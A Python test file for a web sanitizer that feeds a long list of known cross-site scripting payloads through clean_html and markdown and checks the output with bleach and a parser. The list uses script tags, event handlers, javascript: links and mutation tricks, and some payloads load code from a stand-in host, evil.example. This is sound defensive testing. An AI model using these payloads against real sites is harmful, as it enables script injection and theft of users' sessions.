"""Words in, safe HTML out: checked by another cleaner and by a parser, over known ways to smuggle a script in."""

import html.parser
import re
import warnings

import bleach
import pytest
from hypothesis import given
from hypothesis import strategies as st

from content.rendering import ATTRIBUTES, SCHEMES, TAGS, clean_html, markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://ok.example/' onclick='alert(1)'>x</a>",
    "<a href='https://ok.example/' style='position:fixed;inset:0'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)//'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p id=main>x</p>",
    "<h2 class='govuk-heading-xl'>x</h2>",
    "<a name='contacts'>x</a>",
    "<a href='https://ok.example/' target='_blank'>x</a>",
    "<textarea></p><script>alert(1)</script></textarea>",
    "<title></p><img src=x onerror=alert(1)></title>",
    "<p>a</p><plaintext><script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
]


class Found(html.parser.HTMLParser):
    """Every tag and attribute of a text, as a third, dumb reader sees them."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.links, self.other = set(), set(), [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]

    def handle_comment(self, data):
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(cleaned):
    found = Found(cleaned)
    assert found.tags <= TAGS
    assert found.attributes <= {(tag, name) for tag, names in ATTRIBUTES.items() for name in names}
    assert found.other == []
    for link in found.links:
        squeezed = "".join(character for character in link.lower() if character > " ")
        scheme = re.match(r"([a-z][a-z0-9+.-]*):", squeezed)
        assert scheme is None or scheme[1] in SCHEMES, link


def second_opinion(text):
    """What bleach, another cleaner on another parser, lets through under the same rules."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # bleach has opinions on texts that look like addresses
        return bleach.clean(
            text, tags=TAGS, attributes={tag: list(names) for tag, names in ATTRIBUTES.items()}, protocols=SCHEMES
        )


def plain(text):
    """Tags, attributes and words; cleaners spell entities, void tags and control characters differently."""
    return html.unescape(text).replace("<br />", "<br>").replace('"', "'").replace("\x01", "?")


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "<p>before {} after</p>", "<ul><li>{}</ul>"])
def test_no_script_gets_through(payload, around):
    cleaned = clean_html(around.format(payload))
    assert_harmless(cleaned)
    assert plain(second_opinion(cleaned)) == plain(cleaned)
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_script_gets_through_markdown(payload):
    for text in (payload, f"## {payload}", f"[x]({payload})", f"[{payload}](https://ok.example/)", f"- {payload}\n- b"):
        cleaned = markdown(text)
        assert_harmless(cleaned)
        assert plain(second_opinion(cleaned)) == plain(cleaned)


@pytest.mark.parametrize(
    "link",
    [
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](data:text/html,x)",
        "[x](vbscript:x)",
        "![x](https://a/b)",
    ],
)
def test_markdown_makes_no_bad_link_and_no_picture(link):
    cleaned = markdown(link)
    assert_harmless(cleaned)
    assert "href" not in cleaned
    assert "img" not in cleaned


@given(st.text(alphabet="<>/='\" abcjs:!-&;#\t\n", max_size=80))
def test_no_string_of_these_characters_is_dangerous(text):
    cleaned = clean_html(text)
    assert_harmless(cleaned)
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("A **bold** word.", "<p>A <strong>bold</strong> word.</p>"),
        ("## Title\n\n- a\n- b", "<h2>Title</h2>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("[Ring](tel:999)", '<p><a href="tel:999">Ring</a></p>'),
        ("[Here](/verify/)", '<p><a href="/verify/">Here</a></p>'),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("<b>not</b> obeyed", "<p>&lt;b&gt;not&lt;/b&gt; obeyed</p>"),
        ("# Too large", "Too large"),
        ("", ""),
    ],
)
def test_markdown_as_a_lesson_shows_it(text, shown):
    assert markdown(text) == shown


def test_links_to_pages_of_the_site_are_kept():
    link = '<p><a linktype="page" id="3">x</a></p>'
    assert sorted(Found(clean_html(link)).attributes) == [("a", "id"), ("a", "linktype")]
